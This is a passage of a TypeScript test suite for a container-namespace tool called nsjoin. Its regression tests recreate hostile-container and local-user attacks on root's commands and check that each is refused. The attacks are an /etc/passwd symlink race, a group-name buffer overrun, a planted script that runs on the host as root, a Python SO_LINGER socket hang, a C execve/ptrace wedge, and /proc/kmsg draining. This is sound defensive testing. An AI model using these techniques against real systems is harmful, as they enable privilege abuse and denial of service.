            assertEquals(r.stderr.trim().split("\n").length, 1, r.stderr);
            assertMatch(r.stderr, reason);
          }
          assertEquals(fast.stderr, full.stderr);
          assertThrows(() => Deno.statSync(`/proc/${c.pid}/root/tmp/ran`), "the program ran");
        });
      }
    } finally {
      await removeContainers([c]);
      await Deno.remove(host, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22: exec's fast path and full path give a docker container's program the same user, environment, directory, confinement and cgroups, and the same refusals",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22-d-${STATE_RUN}`);
    const stopped = await startContainer("docker", `nsjoin-sec22-s-${STATE_RUN}`);
    const target = `docker:${c.name}`;
    try {
      await t.step(
        "the fast path runs for the plain forms, the full path for --env-file",
        async () => {
          const fast = await helperArgv([
            "-u",
            "nobody",
            "-e",
            "A=1",
            "-w",
            "/tmp",
            target,
            "true",
          ]);
          assert(fast.some((a) => a.startsWith(`d${c.id}:`)), fast.join(" "));
          assert(fast.includes("rnobody"), fast.join(" "));
          const empty = await Deno.makeTempFile();
          try {
            const full = await helperArgv(["--env-file", empty, target, "true"]);
            assert(!full.some((a) => a.startsWith("d")), full.join(" "));
          } finally {
            await Deno.remove(empty);
          }
        },
      );
      const status = "grep -E '^(Cap|NoNewPrivs|Seccomp|Groups|Uid|Gid)' /proc/self/status; " +
        "cat /proc/self/cgroup /proc/self/limits /proc/self/oom_score_adj; umask; pwd; id";
      const forms: string[][] = [
        [],
        ["-u", "nobody"],
        ["-u", "1234:5"],
        ["-u", "nobody:"],
        ["-u", ":nogroup"],
        // app is in /etc/group's staff: memberships only without a group (runc's rule).
        ["-u", "app"],
        ["-u", "1000"],
        ["-u", "app:0"],
        ["-e", "A=1", "-e", "FOO=over", "--workdir", "/tmp", "-i"],
      ];
      for (const form of forms) {
        await t.step(`exec ${form.join(" ") || "(defaults)"}`, async () => {
          const plan = await helperArgv([...form, target, "true"]);
          assert(plan.some((a) => a.startsWith(`d${c.id}:`)), `not the fast path: ${plan}`);
          for (const program of [["sh", "-c", status], ["cat", "/proc/self/environ"]]) {
            const { fast, full } = await bothPaths([...form, target, ...program]);
            assertEquals(fast.code, 0, fast.stderr);
            assertEquals(
              [fast.code, fast.stdout, fast.stderr],
              [full.code, full.stdout, full.stderr],
            );
          }
        });
      }
      await sh("docker", ["stop", "-t", "0", stopped.name]);
      const refusals: [string, string[]][] = [
        ["not running", [`docker:${stopped.name}`, "true"]],
        ["an unknown user", ["-u", "nosuch", target, "true"]],
        ["an unknown group", ["-u", "nobody:nosuch", target, "true"]],
        ["a user name with terminal escapes", ["-u", "a\x1b]0;x\x07", target, "true"]],
        ["a missing program (127)", [target, "no-such-program"]],
        ["a program that is not executable (126)", [target, "/etc/passwd"]],
        ["a working directory that is not there", ["-w", "/no/such", target, "true"]],
      ];
      for (const [what, args] of refusals) {
        await t.step(what, async () => {
          const { fast, full } = await bothPaths(args);
          assert(fast.code !== 0, fast.stderr);
          assertEquals([fast.code, fast.stdout, fast.stderr], [
            full.code,
            full.stdout,
            full.stderr,
          ]);
          assert(!fast.stderr.includes("\x1b"), "an escape reached the terminal");
        });
      }
    } finally {
      await removeContainers([c, stopped]);
    }
  },
});

Deno.test({
  name:
    "stop 22: the fast path's helper resolves -u in the container's /etc/passwd even while it is swapped with a symlink to a host file",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // Finding 4's race, against the C reader: a container (here a chroot in a mount namespace of
    // its own, in a root-made cgroup named for a docker ID, as dockerd makes them) swaps
    // /etc/passwd with a symlink to a host file naming "hostonly" as fast as it can. Only a
    // read that follows the link on the host's side finds that user.
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22-race-" });
    const host = await Deno.makeTempDir({ prefix: "nsjoin-sec22-hostfile-" });
    const id = "d".repeat(63) + "2";
    const v2 = (await Deno.readTextFile("/proc/self/mountinfo")).split("\n")
      .map((l) => l.split(" ")).find((f) => f[3] === "/" && f.includes("cgroup2"))?.[4];
    assert(v2, "no cgroup2 mount");
    const cgroups = [`${v2}/nsjoin-sec22r-${crypto.randomUUID().slice(0, 8)}`];
    cgroups.push(`${cgroups[0]}/docker-${id}.scope`);
    let swapper: Deno.ChildProcess | undefined;
    try {
      const root = `${dir}/rootfs`;
      await Deno.mkdir(`${root}/bin`, { recursive: true });
      await Deno.mkdir(`${root}/etc`);
      await Deno.writeTextFile(`${dir}/swap.c`, SWAP_C);
      await sh("gcc", ["-static", "-O2", "-o", `${root}/bin/swap`, `${dir}/swap.c`]);
      await Deno.writeTextFile(`${root}/etc/passwd`, "root:x:0:0:root:/root:/bin/sh\n");
      await Deno.writeTextFile(
        `${host}/passwd`,
        "root:x:0:0:root:/HOSTSECRET:/bin/sh\nhostonly:x:4242:4242::/HOSTSECRET:/bin/sh\n",
      );
      await Deno.symlink(`${host}/passwd`, `${root}/etc/passwd-host`);
      for (const d of cgroups) await Deno.mkdir(d);
      swapper = new Deno.Command("unshare", {
        args: ["-u", "-m", "chroot", root, "/bin/swap"],
        stdin: "null",
      }).spawn();
      const pid = swapper.pid;
      await Deno.writeTextFile(`${cgroups[1]}/cgroup.procs`, String(pid));
      await waitFor("the chroot", () => {
        try {
          return Deno.readLinkSync(`/proc/${pid}/root`) === root;
        } catch {
          return false;
        }
      });
      const plan = fastPlan({ id, name: "race" }, pid, ["/bin/swap"])
        .map((a) => a === "r" ? "rhostonly" : a);
      const runs = await runHelper(plan, 150);
      const resolved = runs.filter((r) => !r.stderr.includes('Cannot find user "hostonly"'));
      assertEquals(resolved, [], "the host file's user was resolved");
    } finally {
      if (swapper) {
        try {
          swapper.kill("SIGKILL");
        } catch {
          // Already gone.
        }
        await swapper.status;
      }
      for (const d of cgroups.reverse()) {
        for (let i = 0; i < 50 && existsNow(d); i++) {
          await Deno.remove(d).catch(() => new Promise((r) => setTimeout(r, 20)));
        }
      }
      await Deno.remove(dir, { recursive: true });
      await Deno.remove(host, { recursive: true });
    }
  },
});

// ---- stop 22: second look

Deno.test({
  name:
    "stop 22 second look: a container whose User names a long group it then removed from /etc/group gets one refusal line from root's exec, not a helper overrun",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    // The image's (or `docker run --user`'s) User is the container's to choose; runc resolves
    // it once, at start, and the container's root may edit /etc/group afterwards. The fast
    // path's helper (r) wrote an unknown group name into its 1 KiB error buffer unbounded:
    // root's plain `exec docker:NAME` died by SIGSEGV (exit 139) past the buffer.
    await dockerImage();
    const name = `nsjoin-sec22c-g-${STATE_RUN}`;
    const group = "g".repeat(1500);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22c-" });
    try {
      await sh("docker", ["create", "--name", name, "--user", `0:${group}`, IMAGE, "sleep", "600"]);
      await sh("docker", ["cp", `${name}:/etc/group`, `${dir}/group`]);
      const original = await Deno.readTextFile(`${dir}/group`);
      await Deno.writeTextFile(`${dir}/group`, `${original}${group}:x:4321:\n`);
      await sh("docker", ["cp", `${dir}/group`, `${name}:/etc/group`]);
      await sh("docker", ["start", name]);
      const pid = Number((await sh("docker", ["inspect", "-f", "{{.State.Pid}}", name])).trim());
      // What the container's root does once it runs: the group is gone.
      await Deno.writeTextFile(`/proc/${pid}/root/etc/group`, original);
      const plan = await helperArgv([`docker:${name}`, "true"]);
      assert(plan.includes(`r0:${group}`), "not the fast path with the container's User");
      const r = await cliBounded(["exec", `docker:${name}`, "touch", "/tmp/ran"], 20_000);
      assertEquals([r.code, r.killed], [125, false], r.stderr.slice(0, 300));
      assertEquals(r.stderr.split("\n").length, 2, "one line");
      assertMatch(
        r.stderr,
        new RegExp(
          `^nsjoin exec: Cannot find group "g{200}\\.\\.\\." in /etc/group of pid ${pid} - `,
        ),
      );
      assertThrows(() => Deno.statSync(`/proc/${pid}/root/tmp/ran`), "the program ran");
    } finally {
      await sh("docker", ["rm", "-f", name]).catch(() => {});
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 22 second look: exec -u '' runs as the container's configured user on both paths, as docker exec does, not as root",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    // A script's `-u "$USER_OF_JOB"` with the variable empty: docker exec (and podman exec)
    // take the container's User; we took "" as root, uid 0 inside an image made to run as
    // nobody, on the fast path and the full path alike.
    await dockerImage();
    const name = `nsjoin-sec22c-u-${STATE_RUN}`;
    try {
      await sh("docker", ["run", "-d", "--name", name, "--user", "nobody", IMAGE, "sleep", "600"]);
      const docker = (await sh("docker", ["exec", "-u", "", name, "id"])).trim();
      assertMatch(docker, /^uid=65534\(nobody\)/);
      for (const form of [["-u", ""], ["--user="]]) {
        const { fast, full } = await bothPaths([...form, `docker:${name}`, "id"]);
        for (const r of [fast, full]) {
          assertEquals([r.code, r.stdout.trim()], [0, docker], r.stderr);
        }
      }
    } finally {
      await sh("docker", ["rm", "-f", name]).catch(() => {});
    }
  },
});

Deno.test({
  name:
    "stop 22 second look: exec docker:NAME's fast path runs beside a mountinfo over 1 MiB, as the full path does",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn() {
    // A local user may add mounts to root's mount namespace (fusermount3: up to mount_max, 1000
    // by default) at paths as long as they like; the helper's d read all of
    // /proc/self/mountinfo into 1 MiB and refused root's exec with EFBIG where the full path ran.
    // Root-made tmpfs mounts in a mount namespace of the test's own stand for them (/dev/fuse is
    // root's here).
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec22c-m-${STATE_RUN}`);
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec22c-mounts-" });
    const long = Array.from({ length: 15 }, () => "a".repeat(199)).join("/");
    const script = `base="$1/${long}"; mkdir -p "$base" || exit 90
for i in $(seq 1 400); do mkdir -p "$base/$i" && mount -t tmpfs none "$base/$i" || exit 91; done
[ "$(wc -c < /proc/self/mountinfo)" -gt 1048576 ] || exit 92
shift; exec "$@"`;
    try {
      for (const extra of [[], ["--env-file", "/dev/null"]]) {
        const o = await new Deno.Command("unshare", {
          args: ["-m", "--propagation", "private", "sh", "-c", script, "sh", dir]
            .concat([Deno.execPath(), "run", "-A", "--quiet", "--no-lock", CLI, "exec", ...extra])
            .concat([`docker:${c.name}`, "cat", "/proc/self/cgroup"]),
          env: { NO_COLOR: "1" },
          stdin: "null",
        }).output();
        assertEquals(o.code, 0, text(o.stderr));
        assert(text(o.stdout).includes(c.id), text(o.stdout));
      }
    } finally {
      await removeContainers([c]);
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 23: daxIn runs a program given by path, and expands globs, on the host

Deno.test({
  name:
    "stop 23: daxIn never runs a program given by path on the host, nor expands a glob there, where a user's container's working directory points",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // dax looks a registered command up by name alone and resolves any other itself: a path
    // on the host — a relative one from the shell's working directory, for daxIn the
    // target's (a container's configured WorkingDir, which its owner chooses) — and runs the
    // host's file, in root's process, with root's every privilege. A local user whose rootless
    // container works in /tmp/DIR, a directory of theirs on the host too, planted check.sh
    // there: root's `await $\`./check.sh\`` ran it on the host as uid 0. An absolute path ran
    // the host's program in place of the container's (`/bin/hostname` printed the host's).
    const owner = podmanUser();
    if (!owner) throw new Error("tests/setup.sh did not create the rootless podman user");
    await ensureImages(owner);
    const { daxIn } = await import("../dax.ts");
    const name = `nsjoin-sec23t-${crypto.randomUUID().slice(0, 8)}`;
    const drop = `/tmp/${name}`;
    const marker = `${drop}/ran-on-the-host`;
    let made: Awaited<ReturnType<typeof startContainer>> | undefined;
    try {
      await sh("setpriv", [
        `--reuid=${owner.uid}`,
        `--regid=${owner.gid}`,
        "--clear-groups",
        "sh",
        "-c",
        `mkdir -m 777 ${drop} && printf '#!/bin/sh\\nid -u > ${marker}\\n' > ${drop}/check.sh && chmod 755 ${drop}/check.sh`,
      ]);
      made = await startContainer("podman", name, ["--tmpfs", drop, "-w", drop], owner);
      const $ = daxIn(await resolveContainer(`podman@${owner.name}:${name}`));
      assertEquals(await $`pwd`.text(), drop);
      const inside = await $`hostname`.text();
      assert(inside !== Deno.hostname(), "the container has a hostname of its own");
      await t.step("a program by relative or absolute path is refused, nothing runs", async () => {
        const script = `${drop}/check.sh`;
        for (
          const line of [
            () => $`./check.sh`,
            () => $`${script}`,
            () => $`true && ./check.sh`,
            () => $`echo x | A=1 ./check.sh`,
            () => $`echo $(./check.sh)`,
            () => $.raw`${"./check.sh"}`,
            () => $`"./check.sh"`,
            () => $`/bin/hostname`,
          ]
        ) {
          let error: unknown;
          let out = "";
          try {
            out = await line().text();
          } catch (e) {
            error = e;
          }
          assert(!existsSync(marker), `the user's script ran on the host as root: ${line}`);
          assert(out !== Deno.hostname(), `the host's program ran: ${line}`);
          assert(error instanceof TypeError, `not refused: ${line}: ${error}`);
          assertMatch(
            (error as TypeError).message,
            /^Cannot run ".*" in daxIn: dax runs a program/,
          );
        }
      });
      await t.step("a glob is refused: the host's names never reach the container", async () => {
        // dax expanded `*` against the host's files, from the container's WorkingDir (the
        // owner's host directory) or an absolute path: root's `$\`ls /root/.ssh/*\`` handed the
        // names of root's files to the container's program (its argv, which it reads).
        const secret = await Deno.makeTempDir({ prefix: "nsjoin-sec23t-root-only-" });
        try {
          await Deno.writeTextFile(`${secret}/root-only-name`, "");
          for (
            const line of [
              () => $`echo *`,
              () => $`echo ./check.s?`,
              () => $`echo \*`,
              () => $.raw`echo ${secret}/*`,
              () => $.raw`echo ${secret}/root-only-[n]ame`,
            ]
          ) {
            let error: unknown;
            let out = "";
            try {
              out = await line().text();
            } catch (e) {
              error = e;
            }
            assert(!out.includes("check.sh") && !out.includes("root-only-name"), out);
            assert(error instanceof TypeError, `not refused: ${line}: ${error}`);
            assertMatch((error as TypeError).message, /^Cannot expand ".*" in daxIn: dax expands/);
          }
        } finally {
          await Deno.remove(secret, { recursive: true });
        }
        // Quoted, it is the program's: a shell inside expands it against the container's files.
        assertEquals(await $`sh -c ${"echo *"}`.text(), "*");
      });
      await t.step("programs by name, and paths as arguments, still run inside", async () => {
        assertEquals(await $`hostname`.text(), inside);
        assertEquals(await $`ls -d ${drop} /etc`.text(), `/etc\n${drop}`);
        assertEquals(await $`sh -c 'test -e ./check.sh || echo none here'`.text(), "none here");
        assertEquals(
          await $`echo ./check.sh /bin/hostname | cat`.text(),
          "./check.sh /bin/hostname",
        );
      });
    } finally {
      if (made) await removeContainers([made]);
      await Deno.remove(drop, { recursive: true }).catch(() => {});
    }
  },
});

// ---- stop 23: a local user against root

Deno.test({
  name:
    "stop 23: ls never waits for a lingering TCP socket that a local user's process drops while ls holds its copy",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // ls copies every socket of every process (pidfd_getfd) to ask for its network namespace.
    // A user's TCP socket with SO_LINGER whose FIN stays queued behind data its peer (the
    // user's own listener) never reads: when its process exits while ls holds the copy, ls's
    // close is the last reference, and the kernel waits there for the linger time the user
    // chose — for ever. Each attacker holds its socket at 1500 fds and is killed (an exit is
    // an exit) as soon as ls is seen holding a copy; a hit is a matter of timing, so three
    // rounds of twelve (one round of six caught it in 2 runs of 5; three of twelve in 3 of 3).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec23-linger-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/linger.py`,
      `import os, socket, struct, sys, time
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
c = socket.socket(); c.connect(srv.getsockname()); peer, _ = srv.accept()
c.setblocking(False)
try:
    while True: c.send(b"x" * 65536)
except BlockingIOError:
    pass
c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 2**31 - 1))
ino = os.fstat(c.fileno()).st_ino
pid = os.fork()
if pid == 0:
    fds = [os.dup(c.fileno()) for _ in range(int(sys.argv[1]))]
    time.sleep(10**6)
c.close()
print(pid, ino, flush=True)
time.sleep(10**6)
`,
    );
    const attackers: { holder: Deno.ChildProcess; child: number; ino: number }[] = [];
    const kill = (pid: number) => {
      try {
        if (pid > 0) Deno.kill(pid, "SIGKILL");
      } catch {
        // gone
      }
    };
    const attacker = async () => {
      const holder = new Deno.Command("setpriv", {
        args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", "sh", "-c"]
          .concat(['ulimit -n 2000 && exec /usr/bin/python3 "$0" 1500', `${dir}/linger.py`]),
        stdin: "null",
        stdout: "piped",
      }).spawn();
      const reader = holder.stdout.pipeThrough(new TextDecoderStream()).getReader();
      let said = "";
      while (!said.includes("\n")) {
        const r = await reader.read();
        if (r.done) break;
        said += r.value;
      }
      reader.releaseLock();
      const [child, ino] = said.trim().split(" ").map(Number);
      const a = { holder, child, ino };
      attackers.push(a);
      assert(child > 0 && ino > 0, `attacker said: ${said}`);
      return a;
    };
    // One round: ls against twelve attackers; its status, or "waiting" after 30 s.
    const round = async (): Promise<Deno.CommandStatus | "waiting"> => {
      const waiting = new Set<{ child: number; ino: number }>();
      for (let i = 0; i < 12; i++) waiting.add(await attacker());
      const ls = new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--quiet", CLI, "ls"],
        env: { NO_COLOR: "1" },
        stdin: "null",
        stdout: "null",
        stderr: "null",
      }).spawn();
      let ended = false, late = false;
      let timer: ReturnType<typeof setTimeout> | undefined;
      const status = ls.status.finally(() => ended = true);
      const deadline = new Promise<"waiting">((r) =>
        timer = setTimeout(() => {
          late = true;
          r("waiting");
        }, 30_000)
      );
      try {
        while (waiting.size > 0 && !ended && !late) {
          try {
            for (const e of Deno.readDirSync(`/proc/${ls.pid}/fd`)) {
              let link = "";
              try {
                link = Deno.readLinkSync(`/proc/${ls.pid}/fd/${e.name}`);
              } catch {
                continue;
              }
              for (const a of waiting) {
                if (link === `socket:[${a.ino}]`) {
                  kill(a.child);
                  waiting.delete(a);
                }
              }
            }
          } catch {
            break; // ls ended
          }
          await new Promise((r) => setTimeout(r, 0));
        }
        return await Promise.race([status, deadline]);
      } finally {
        clearTimeout(timer);
        kill(ls.pid);
        await status;
      }
    };
    try {
      for (let i = 0; i < 3; i++) {
        const done = await round();
        if (done === "waiting") throw new Error("root's ls still waiting after 30 s");
        assertEquals(done.code, 0);
      }
    } finally {
      for (const a of attackers) {
        kill(a.child);
        kill(a.holder.pid);
        await a.holder.status;
        await a.holder.stdout.cancel().catch(() => {});
      }
      await Deno.remove(dir, { recursive: true });
    }
  },
});

Deno.test({
  name:
    "stop 23: root's ps finds a local user's podman store by its drivers' names, never by listing their graph root",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn() {
    // ps, and exec of a bare name, listed every user's graph root to find its
    // `DRIVER-containers` directories (and to see that it had any): a million entries a user
    // put there made root's ps take 6 s against 0.1 s, and more as long as they liked. A
    // million entries take this disk half a minute to make, so strace says what is listed.
    await using user = await hostileUser();
    const pid = await user.sleeper("container");
    const id = "c23".padEnd(64, "0");
    await user.store([{ id, name: "sec23-listed", pid }]);
    for (let i = 0; i < 50; i++) await Deno.writeTextFile(`${user.home}/g/junk-${i}`, "");
    await sh("chown", ["-R", `${user.uid}:${user.gid}`, user.home]);
    const trace = await Deno.makeTempFile({ prefix: "nsjoin-sec23-strace-" });
    try {
      const ps = await runPiped("strace", {
        args: ["-f", "-y", "-e", "trace=getdents64", "-o", trace, Deno.execPath()]
          .concat(["run", "-A", "--quiet", CLI, "ps", "--json"]),
        env: { NO_COLOR: "1" },
      });
      assertEquals(ps.code, 0, ps.stderr);
      assert(ps.stdout.includes("sec23-listed"), `the user's store was not read: ${ps.stdout}`);
      const lines = (await Deno.readTextFile(trace)).split("\n");
      assert(lines.some((l) => l.includes("getdents64(")), "strace saw no directory listed");
      const listed = lines.filter((l) =>
        l.includes(`getdents64(`) && l.includes(`<${user.home}/g>`)
      );
      assertEquals(listed, [], "root's ps listed the user's graph root");
    } finally {
      await Deno.remove(trace);
    }
  },
});

Deno.test({
  name:
    "stop 23: exec of a local user's process whose execve never ends fails within seconds, never waits in ptrace",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  async fn(t) {
    // exec copies a target's seccomp filter with PTRACE_SEIZE, which waits for the target's
    // cred_guard_mutex, held by an execve until it ends; any user can make their process's
    // execve never end (a thread asked to be traced by a parent that never reaps it, then
    // exits: de_thread waits for that zombie; selftests/ptrace/vmaccess.c), and any process
    // may add a filter. Root's exec of it waited in ptrace_attach for ever (nsenter, which
    // copies no filter, is the control).
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-sec23-exec-" });
    await Deno.chmod(dir, 0o755);
    await Deno.writeTextFile(
      `${dir}/stuck.c`,
      String.raw`#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <unistd.h>
static void *thread(void *arg) { ptrace(PTRACE_TRACEME, 0, 0L, 0L); return NULL; }
int main(void) {
  pid_t pid = fork();
  if (pid == 0) {
    struct sock_filter f[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
    struct sock_fprog p = {1, f};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p);
    pthread_t pt;
    pthread_create(&pt, NULL, thread, NULL);
    pthread_join(pt, NULL);
    execlp("sleep", "sleep", "1000", NULL);
    return 1;
  }
  printf("%d\n", pid);
  fflush(stdout);
  pause();
  return 0;
}
`,
    );
    await sh("gcc", ["-O2", "-pthread", "-o", `${dir}/stuck`, `${dir}/stuck.c`]);
    const holder = new Deno.Command("setpriv", {
      args: [`--reuid=${user.uid}`, `--regid=${user.gid}`, "--clear-groups", `${dir}/stuck`],
      stdin: "null",
      stdout: "piped",
    }).spawn();
    let pid = 0;
    try {
      const reader = holder.stdout.pipeThrough(new TextDecoderStream()).getReader();
      let said = "";
      while (!said.includes("\n")) {
        const r = await reader.read();
        if (r.done) break;
        said += r.value;
      }
      reader.releaseLock();
      pid = Number(said.trim());
      assert(pid > 0, `the user's program said: ${said}`);
      // Its execve is stuck: in begin_new_exec (de_thread), a filter in place.
      for (
        let i = 0;
        i < 200 && !Deno.readTextFileSync(`/proc/${pid}/stack`).includes("begin_new_exec");
        i++
      ) {
        await new Promise((r) => setTimeout(r, 10));
      }
      assert(Deno.readTextFileSync(`/proc/${pid}/stack`).includes("begin_new_exec"), "not stuck");
      await t.step("nsenter (no filter copied) runs", async () => {
        const o = await runPiped(
          "nsenter",
          { args: ["-t", String(pid), "-a", "true"] },
          undefined,
          30_000,
        );
        assertEquals(o.code, 0, o.stderr);
      });
      await t.step("exec PID: 125 and one line, in seconds", async () => {
        // As the user (-u): root's own program copies nothing of a user's plain process
        // (stop 27), so only a program in the user's keeping waits for the filter.
        const o = await runPiped(
          Deno.execPath(),
          {
            args: [
              "run",
              "-A",
              "--quiet",
              CLI,
              "exec",
              "-u",
              String(user.uid),
              String(pid),
              "true",
            ],
            env: { NO_COLOR: "1" },
          },
          undefined,
          30_000,
        );
        assertEquals(o.code, 125, `${o.stdout}${o.stderr}`);
        assertMatch(
          o.stderr,
          /^nsjoin exec: Cannot copy the seccomp filter of pid \d+: ptrace did not attach within 5 s[^\n]*\n$/,
        );
      });
    } finally {
      try {
        holder.kill("SIGKILL"); // its zombie thread goes, and the execve ends
      } catch {
        // gone
      }
      await holder.status;
      await holder.stdout.cancel().catch(() => {});
      if (pid > 0) {
        try {
          Deno.kill(pid, "SIGKILL");
        } catch {
          // gone
        }
      }
      await Deno.remove(dir, { recursive: true });
    }
  },
});

// ---- stop 23: exec fast path, hostile container

/** What is pending on /proc/kmsg (the kernel log's one destructive reader), read without waiting. */
async function kmsgPending(): Promise<string> {
  const o = await new Deno.Command("dd", {
    args: ["if=/proc/kmsg", "iflag=nonblock", "bs=65536", "status=none"],
    stdin: "null",
    stdout: "piped",
    stderr: "null",
  }).output();
  return text(o.stdout);
}

Deno.test({
  name:
    "stop 23: a container's /etc/passwd or /etc/group linked to its /proc/kmsg never has root's exec consume the host's kernel log, on either path",
  ignore: NEEDS_DOCKER,
  sanitizeResources: false,
  async fn(t) {
    // The container's root cannot read its /proc/kmsg (CAP_SYSLOG, checked at open), but root's
    // exec read the container's /etc files with every capability: /proc/kmsg is a "regular" file
    // of procfs, and each read of it takes the messages off the host's kernel log (what klogd or
    // rsyslog's imklog would have logged). Both paths opened it and drained the log (exit 125,
    // EAGAIN). docker exec blocks on it, in runc, for good: this container is never exec'd into
    // by docker here, only removed.
    await dockerImage();
    const c = await startContainer("docker", `nsjoin-sec23-k-${STATE_RUN}`);
    const etc = `/proc/${c.pid}/root/etc`;
    try {
      const cases: [string, string, string[]][] = [
        ["/etc/passwd", "passwd", []],
        ["/etc/group", "group", ["-u", "0:staff"]],
      ];
      for (const [file, name, form] of cases) {
        await t.step(`${file} linked to /proc/kmsg`, async () => {
          await Deno.rename(`${etc}/${name}`, `${etc}/${name}.orig`);
          await Deno.symlink("/proc/kmsg", `${etc}/${name}`);
          try {
            for (const extra of [[], ["--env-file", "/dev/null"]]) {
              await kmsgPending();
              const marker = `nsjoin-sec23-kmsg-${crypto.randomUUID().slice(0, 8)}`;
              await Deno.writeTextFile("/dev/kmsg", `<6>${marker}\n`);
              const r = await cliBounded(
                ["exec", ...extra, ...form, `docker:${c.name}`, "touch", "/tmp/ran"],
                20_000,
              );
              assert((await kmsgPending()).includes(marker), "the kernel log was consumed");
              assertEquals([r.code, r.killed], [125, false], r.stderr);
              assertEquals(
                r.stderr,
                `nsjoin exec: Cannot read ${file} of pid ${c.pid} - it is not a regular file\n`,
              );
              assertThrows(() => Deno.statSync(`${etc}/../tmp/ran`), "the program ran");
            }
          } finally {
            await Deno.remove(`${etc}/${name}`);
            await Deno.rename(`${etc}/${name}.orig`, `${etc}/${name}`);
          }
        });
      }
      await t.step("a file of its /sys is refused alike, a stored file still read", async () => {
        await Deno.rename(`${etc}/passwd`, `${etc}/passwd.orig`);
        try {
          await Deno.symlink("/sys/kernel/profiling", `${etc}/passwd`);
          const { fast, full } = await bothPaths([`docker:${c.name}`, "true"], 20_000);
          for (const r of [fast, full]) {
            assertEquals([r.code, r.killed], [125, false], r.stderr);
            assertMatch(r.stderr, /Cannot read \/etc\/passwd .* - it is not a regular file\n$/);
          }
        } finally {
          await Deno.remove(`${etc}/passwd`);
          await Deno.rename(`${etc}/passwd.orig`, `${etc}/passwd`);
        }
        const { fast, full } = await bothPaths([`docker:${c.name}`, "id", "-u"], 20_000);
        for (const r of [fast, full]) assertEquals([r.code, r.stdout], [0, "0\n"], r.stderr);
      });
    } finally {
      await removeContainers([c]);
    }
  },
});

// ---- stop 24: a hostile target against TypeScript inside and the toolkit

Deno.test({
  name:
    "stop 24: a target's /etc/localtime and /etc/gai.conf never become root's process's, nor hang it",
  ignore: NEEDS_ROOT,
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    // ICU detects the process's time zone once, and glibc reads gai.conf once (both under
    // an init-once every thread shares), in the mount namespace of the thread that first
    // needs them: a local user's `unshare -Urm` process, whose /etc is theirs, is the target.
    const user = await testUser();
    const dir = await Deno.makeTempDir({ prefix: "nsjoin-tz-" });
    await Deno.chmod(dir, 0o755);
    const hostOffset = new Date(2020, 0, 1).getTimezoneOffset();
    const zone = hostOffset === -540 ? "America/Caracas" : "Asia/Tokyo";
    // Debian's stock /etc/hosts gives localhost two addresses, which is when glibc sorts
    // them and reads gai.conf; the victim runs with such a file (this host's has one).
    await Deno.writeTextFile(`${dir}/hosts`, "127.0.0.1 localhost\n::1 localhost\n");
    const victim = async (pid: number, inside: string, host: string) => {
      await Deno.writeTextFile(
        `${dir}/victim.ts`,
        `import { inNamespaces } from "${ROOT}mod.ts";
const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
const port = (listener.addr as Deno.NetAddr).port;
const inside = await inNamespaces(${pid}, async (port: number) => { ${inside} }, {
  namespaces: ["mnt"], arg: port, timeout: 5_000,
}).catch((e) => e.name);
const host = await (async () => { ${host} })();
console.log(JSON.stringify({ inside, host }));
Deno.exit(0);
`,
      );
      const out = await runPiped(
        "unshare",
        {
          args: [
            "-m",
            "--propagation",
            "private",
            "sh",
            "-c",
            `mount --bind ${dir}/hosts /etc/hosts &&
          exec "$0" run -A --quiet --no-lock ${dir}/victim.ts`,
            Deno.execPath(),
          ],
        },
        undefined,
        60_000,
      ).catch((e) => ({ code: -1, stdout: "", stderr: (e as Error).message }));
      assertEquals(out.code, 0, `root's process hung or failed: ${out.stderr}`);
      return JSON.parse(out.stdout);
    };
    const offset = "return new Date(2020, 0, 1).getTimezoneOffset();";
    const lookup = `const c = await Deno.connect({ hostname: "localhost", port });
      c.close();
      return "connected";`;
    try {
      await t.step("its /etc/localtime is not the zone of root's Dates", async () => {
        await using target = await makeTarget({
          flags: ["-U", "--map-root-user", "-m"],
          user: { uid: user.uid, gid: user.gid },
          setup: `mount -t tmpfs x /etc && cat /usr/share/zoneinfo/${zone} > /etc/localtime`,
        });
        // Without the fix both are the target's zone: -540 (Tokyo) where root's is UTC.
        assertEquals(await victim(target.pid, offset, offset), {
          inside: hostOffset,
          host: hostOffset,
        });
      });
      await t.step("a FIFO at its /etc/localtime never hangs root's Dates", async () => {
        await using target = await makeTarget({
          flags: ["-U", "--map-root-user", "-m"],
          user: { uid: user.uid, gid: user.gid },
          setup: "mount -t tmpfs x /etc && mkfifo /etc/localtime",
        });
        assertEquals(await victim(target.pid, offset, offset), {
          inside: hostOffset,
          host: hostOffset,
        });
      });
      await t.step("a FIFO at its /etc/gai.conf never hangs root's lookups", async () => {
        await using target = await makeTarget({
